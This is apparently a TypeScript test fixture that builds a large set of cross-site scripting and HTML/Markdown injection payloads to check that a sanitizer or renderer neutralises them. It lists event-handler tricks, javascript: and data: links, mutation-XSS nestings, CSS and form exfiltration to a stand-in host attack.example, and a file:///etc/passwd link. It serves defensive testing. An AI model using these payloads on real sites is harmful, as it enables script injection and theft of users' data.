/*
 * Attacks by text, written for this program. Every script in them calls `ran(N)`, every address of another host is
 * below https://attack.example, so that a test sees whatever runs, loads, frames, submits or navigates.
 */

export interface Attack {
  readonly name: string;
  readonly text: string;
  /** Words that a reader must still see: all of the attack's own, unless it hides some by a rule of the tree. */
  readonly words: readonly string[];
}

const js = (n: number): string => `ran(${String(n)})`;
const entities = (text: string): string =>
  [...text].map((one) => `&#${String(one.codePointAt(0))};`).join('');
const hexEntities = (text: string): string =>
  [...text].map((one) => `&#x${(one.codePointAt(0) ?? 0).toString(16)}`).join('');

/** Tags with the handlers that fire by themselves on them, or at a touch. */
const handlers: readonly (readonly [tag: string, rest: string, handler: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src="https://attack.example/i.png"', 'onload'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['input', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['iframe', 'src="https://attack.example/f"', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['script', 'src=x', 'onerror'],
  ['math', 'tabindex=1 autofocus', 'onfocus'],
  ['p', 'style="animation:x 1s"', 'onanimationstart'],
  ['a', 'href="https://attack.example/a"', 'onmouseover'],
  ['div', 'contenteditable autofocus', 'onfocus'],
  ['td', '', 'onpointerrawupdate'],
  ['xss', 'id=x tabindex=1', 'onfocusin'],
];

/** Ways of writing the same tag that filters fall over. */
const spellings: readonly ((tag: string, rest: string, handler: string, n: number) => string)[] = [
  (tag, rest, handler, n) => `<${tag} ${rest} ${handler}=${js(n)}>`,
  (tag, rest, handler, n) => `<${tag.toUpperCase()} ${rest} ${handler.toUpperCase()}="${js(n)}">x</${tag}>`,
  (tag, rest, handler, n) => `<${tag}/${rest.replaceAll(' ', '/')}/${handler}=${js(n)}>`,
  (tag, rest, handler, n) => `<${tag}\n${rest}\n\t${handler}\n=\n"${js(n)}"\n>`,
  (tag, rest, handler, n) => `<${tag} ${rest} ${handler}="${entities(js(n))}">`,
  (tag, rest, handler, n) => `<${tag} ${rest} ${handler}='${hexEntities(js(n))}'//`,
  (tag, rest, handler, n) => `<<${tag} ${rest} ${handler}=\`${js(n)}\`>>`,
  (tag, rest, handler, n) => `<${tag}\u0000 ${rest} ${handler}=${js(n)}>`,
  (tag, rest, handler, n) => `<${tag} ${rest} x="></${tag}>" ${handler}=${js(n)}`,
  (tag, rest, handler, n) => `<p><${tag} ${rest} class=x ${handler}=${js(n)}></p>`,
];

/** Places from which an attack tries to get out. */
const contexts: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `"><${attack}`,
  (attack) => `'"--></style></script></title></textarea></noscript>${attack}`,
  (attack) => `<!--><!---->${attack}-->`,
  (attack) => `> ${attack}\n> quoted`,
  (attack) => `- one\n- ${attack}`,
  (attack) => `| a | b |\n|---|---|\n| ${attack.replaceAll('\n', ' ')} | x |`,
  (attack) => `# ${attack.replaceAll('\n', ' ')}`,
  (attack) => `[${attack}](https://attack.example/c)`,
  (attack) => `<p>first</p>${attack}<p>last</p>`,
  (attack) => `<ul><li>${attack}</li></ul><p>x</p>`,
  (attack) => `<table><tr><td>${attack}</table><p>x</p>`,
  (attack) => `\`\`\`html\n${attack}\n\`\`\`\n\n${attack}`,
  (attack) => `<![CDATA[${attack}]]>`,
  (attack) => `\u202e${attack}\u202c`,
];

/** Attacks that are no product of the three lists above. */
function specials(n: number): readonly string[] {
  const run = js(n);
  const schemes = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `\u0001javascript:${run}`,
    ` javascript:${run}`,
    `javascript&colon;${run}`,
    `javascript&#58;${run}`,
    `&#106;avascript:${run}`,
    `&#x6A&#x61;vascript:${run}`,
    `javascript:%0a${run}`,
    `javascript://https://attack.example/%0a${run}`,
    `vbscript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`,
    `data:image/svg+xml,<svg onload=${run}>`,
    `blob:https://attack.example/x`,
    `file:///etc/passwd`,
    `filesystem:https://attack.example/x`,
    `view-source:https://attack.example/`,
    `https:javascript:${run}`,
    `\\\\attack.example\\share`,
    `//attack.example/x`,
    `feed:javascript:${run}`,
  ];
  return [
    ...schemes.map((href) => `<a href="${href}">click here</a>`),
    ...schemes.map((href) => `[click here](${href})`),
    ...schemes.map((href) => `[click here](<${href}>)`),
    ...schemes.map((href) => `[click here][r]\n\n[r]: ${href} "title"`),
    ...schemes.slice(0, 8).map((href) => `<${href}>`),
    ...schemes.slice(0, 8).map((href) => `<p><a href='${href}'>click</a> here</p>`),
    `<script>${run}</script>`,
    `<p>a</p><script>${run}</script>`,
    `<script src="https://attack.example/x.js"></script>`,
    `<script type=module>import "https://attack.example/m.js"</script>`,
    `<SCRIPT\n>${run}</SCRIPT\t>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `</script><script>${run}</script>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="https://attack.example/s.js"/></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text y=20>click</text></a></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${run} /><text y=20>click</text></a></svg>`,
    `<svg><set attributeName=onmouseover to=${run}></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></svg>`,
    `<svg><image href="https://attack.example/i.svg"></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
    `<svg><style>@import 'https://attack.example/c.css';</style></svg>`,
    `<svg><title><style><img src=x onerror=${run}></style></title></svg>`,
    `<math><maction actiontype=statusline xlink:href="javascript:${run}">click</maction></math>`,
    `<math href="javascript:${run}">click</math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src=x>">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${run}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<template><img src=x onerror=${run}></template>`,
    `<template shadowrootmode=open><script>${run}</script></template>`,
    `<textarea></textarea><img src=x onerror=${run}></textarea>`,
    `<xmp><img src=x onerror=${run}></xmp><plaintext>`,
    `<select><option><style></option></select><img src=x onerror=${run}></style>`,
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    `<style>@import url("https://attack.example/c.css");</style>`,
    `<style>body{background:url(https://attack.example/b.png)}</style>`,
    `<style>@font-face{font-family:x;src:url(https://attack.example/f)}*{font-family:x}</style>`,
    `<style>input[value^=a]{background:url(https://attack.example/a)}</style>`,
    `<link rel=stylesheet href="https://attack.example/c.css">`,
    `<link rel=preload as=image href="https://attack.example/p.png">`,
    `<link rel="dns-prefetch" href="https://attack.example">`,
    `<div style="background:url(https://attack.example/d.png)">over</div>`,
    `<p style="background-image:\\75rl(https://attack.example/e.png)">over</p>`,
    `<p style="width:expression(${run})">over</p>`,
    `<p style="behavior:url(#default#time2)">over</p>`,
    `<meta http-equiv=refresh content="0;url=https://attack.example/">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `<base href="https://attack.example/">`,
    `<base target=_top>`,
    `<form action="https://attack.example/"><input name=q value=secret><button>send</button></form>`,
    `<form id=f action="https://attack.example/"></form><button form=f>send</button>`,
    `<button formaction="javascript:${run}">send</button>`,
    `<form><input type=image formaction="https://attack.example/" src=x></form>`,
    `<isindex action="javascript:${run}" type=image>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
    `<iframe src="https://attack.example/frame"></iframe>`,
    `<frameset><frame src="javascript:${run}"></frameset>`,
    `<portal src="https://attack.example/"></portal>`,
    `<fencedframe src="https://attack.example/"></fencedframe>`,
    `<object data="https://attack.example/o.swf"><param name=movie value=x></object>`,
    `<object type="text/html" data="javascript:${run}"></object>`,
    `<embed src="data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=">`,
    `<applet code="x.class" codebase="https://attack.example/"></applet>`,
    `<img src="https://attack.example/pixel.gif">`,
    `<img srcset="https://attack.example/1.png 1x, https://attack.example/2.png 2x">`,
    `<picture><source srcset="https://attack.example/s.webp"><img></picture>`,
    `<img lowsrc="https://attack.example/l.png" dynsrc="javascript:${run}">`,
    `<video poster="https://attack.example/v.png"><source src=x onerror=${run}></video>`,
    `<audio autoplay src="https://attack.example/a.mp3"></audio>`,
    `<video><track src="https://attack.example/t.vtt" default></video>`,
    `<input type=image src="https://attack.example/in.png">`,
    `<body background="https://attack.example/bg.png">`,
    `<table background="https://attack.example/tb.png"><tr><td>cell</td></tr></table>`,
    `<a href="https://attack.example/" ping="https://attack.example/ping">click</a>`,
    `<a href="https://attack.example/" target=_self download onclick=${run}>click</a>`,
    `<a href="https://user:secret@attack.example/">click</a>`,
    `![x](https://attack.example/m.png)`,
    `![x](https://attack.example/m.png "title" onerror=${run})`,
    `![x](x"onerror="${run})`,
    `![x][i]\n\n[i]: https://attack.example/ref.png`,
    `[![x](https://attack.example/in.png)](https://attack.example/out)`,
    `[a](https://attack.example/"onmouseover="${run})`,
    `[a](https://attack.example/ 'x' onmouseover=${run})`,
    `[a]: javascript:${run}\n\n[a]`,
    `[a]: https://attack.example/ "unused words"`,
    `<https://attack.example/auto">${run}>`,
    `https://attack.example/bare?"onclick=${run}`,
    `www.attack.example/bare "onclick=${run}`,
    `someone@attack.example"onclick=${run}`,
    `text[^1]\n\n[^1]: <img src=x onerror=${run}>`,
    `\`<img src=x onerror=${run}>\``,
    `~~~js onload=${run}\n<img src=x onerror=${run}>\n~~~`,
    `    <img src=x onerror=${run}>`,
    `<details open ontoggle=${run}><summary>more</summary></details>`,
    `&lt;img src=x onerror=${run}&gt;`,
    `&amp;lt;img src=x onerror=${run}&amp;gt;`,
    `\\<img src=x onerror=${run}\\>`,
    `{@html '<img src=x onerror=${run}>'}`,
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}`,
    `<%= ${run} %>`,
    `<?xml version="1.0"?><?xml-stylesheet href="javascript:${run}"?><x/>`,
    `<!DOCTYPE html [<!ENTITY x "<script>${run}</script>">]>&x;`,
    `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
    `<!-- --!><img src=x onerror=${run}>`,
    `<?php echo '<script>${run}</script>' ?>`,
    `<b id=__proto__>x</b><b name=constructor>y</b>`,
    `<p id=app>x</p><p name=body>y</p>`,
    `<p slot=x is=x-y popover popovertarget=x>pop</p>`,
    `<dialog open>dialog <form method=dialog><button>ok</button></form></dialog>`,
    `<div popover=auto id=pop>pop</div><button popovertarget=pop>open</button>`,
    `<x-y contenteditable inert accesskey=s>edit</x-y>`,
    `\u202eevil\u202c <script>${run}</script>`,
    `\u2066<img src=x onerror=${run}>\u2069`,
    `a\u0000b<scr\u0000ipt>${run}</scr\u0000ipt>`,
    `\ufeff<script>${run}</script>`,
    `\ud800<script>${run}</script>`,
    `＜script＞${run}＜/script＞`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `${'<div>'.repeat(300)}<img src=x onerror=${run}>`,
    `${'> '.repeat(60)}<img src=x onerror=${run}>`,
    `<p ${'a=1 '.repeat(400)}onclick=${run}>many</p>`,
    `<p>${'<b>'.repeat(60)}<img src=x onerror=${run}></p>`,
  ];
}

/** Attributes that only dress a tag up are left out by rule; what they say is no word of the text. */
const dressing = /(?:class|id|style|title|type|name|value|size|width)=(?:"[^"]*"|'[^']*'|[^\s>]*)/gi;

/** Words of an attack as it is written: letters in a row, outside of what is written by numbers. */
function wordsOf(text: string): readonly string[] {
  const plain = text
    .replace(/&#?[\da-z]+;?/gi, ' ')
    .replace(dressing, ' ')
    .replace(/\\u[\da-f]{4}/gi, ' ');
  const tags = plain.replace(
    /<\/?(?:p|div|ul|li|table|tr|td|b|a|br|blockquote|pre|code|summary)(?=[\s>/])/gi,
    ' ',
  );
  return [...new Set(tags.match(/[a-z]{5,}/gi) ?? [])];
}

/** All attacks, each with a number of its own; `count` of them are put together from tags, spellings and contexts. */
export function attacks(count: number): readonly Attack[] {
  const written = specials(0).length;
  const own = Array.from({ length: written }, (_, n) => specials(n)[n] ?? '');
  const made = Array.from({ length: count }, (_, at) => {
    // Steps without a common divisor meet every pair of the lists, and triples evenly.
    const [tag, rest, handler] = handlers[at % handlers.length] ?? ['img', 'src=x', 'onerror'];
    const spelling = spellings[(at * 7) % spellings.length];
    const context = contexts[(at * 11 + Math.floor(at / contexts.length)) % contexts.length];
    const attack = spelling?.(tag, rest, handler, written + at) ?? '';
    return context?.(attack) ?? attack;
  });
  return [...own, ...made].map((text, n) => ({ name: `attack ${String(n)}`, text, words: wordsOf(text) }));
}
